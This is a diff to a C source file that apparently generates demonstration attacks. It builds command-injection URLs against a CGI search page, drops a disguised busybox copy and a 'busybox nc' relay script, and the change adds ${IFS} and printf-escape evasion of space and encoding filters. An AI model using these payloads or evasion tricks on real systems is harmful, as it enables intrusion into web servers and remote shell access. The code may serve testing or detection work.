@@ -1,7 +1,6 @@
 #include "cli/demo_attack.h"
 
 #include <arpa/inet.h>
-#include <ctype.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
@@ -62,14 +61,15 @@ static void plan_drop(uint64_t *random, struct demo_plan *p)
     } else if (way == 1) {
         snprintf(p->words[n], sizeof(p->words[n]), "hides a copy of a program as %s", p->program);
         snprintf(p->steps[n], sizeof(p->steps[n]),
-                 "busybox mkdir -p %s; cat /bin/busybox > %s; chmod 755 %s", where, p->program,
+                 "busybox mkdir -p %s; cat /bin/busybox >%s; chmod 755 %s", where, p->program,
                  p->program);
     } else {
         snprintf(p->words[n], sizeof(p->words[n]), "writes a script to %s", p->program);
         snprintf(p->steps[n], sizeof(p->steps[n]),
-                 "busybox mkdir -p %s; echo '#!/bin/sh' > %s; echo 'exec busybox nc $1 $2' >> %s; "
+                 "busybox mkdir -p %s; printf "
+                 "'#!/bin/sh\\nexec\\040busybox\\040nc\\040$1\\040$2\\n' >%s; "
                  "chmod 755 %s",
-                 where, p->program, p->program, p->program);
+                 where, p->program, p->program);
     }
 }
 
@@ -99,15 +99,15 @@ void demo_attack_plan(uint64_t seed, struct demo_plan *ret)
         ret->pauses_ms[i] = 200 + demo_random(&random) % 1500;
 }
 
-/* "zz /dev/null; ...": ends the grep that the page runs, and comments out what it has behind. */
+/* "zz /dev/null; ...": ends the grep that the page runs, and comments out what it has behind. A
+ * request line has no spaces: the shell makes them again of ${IFS}. */
 static void encode(const struct demo_plan *p, const char *step, char *ret, size_t size)
 {
     char text[2048];
     size_t at = (size_t)snprintf(ret, size, "/cgi-bin/search?q=");
-    snprintf(text, sizeof(text), "zz /dev/null; : %s; %s #", p->token, step);
-    for (const char *c = text; *c && at + 4 < size; c++)
-        at += (size_t)snprintf(ret + at, size - at, isalnum((unsigned char)*c) ? "%c" : "%%%02X",
-                               (unsigned char)*c);
+    snprintf(text, sizeof(text), "zz /dev/null; : %s; %s;#", p->token, step);
+    for (const char *c = text; *c && at + 8 < size; c++)
+        at += (size_t)snprintf(ret + at, size - at, *c == ' ' ? "${IFS}" : "%c", *c);
 }
 
 static bool carries(pid_t pid, const char *token)
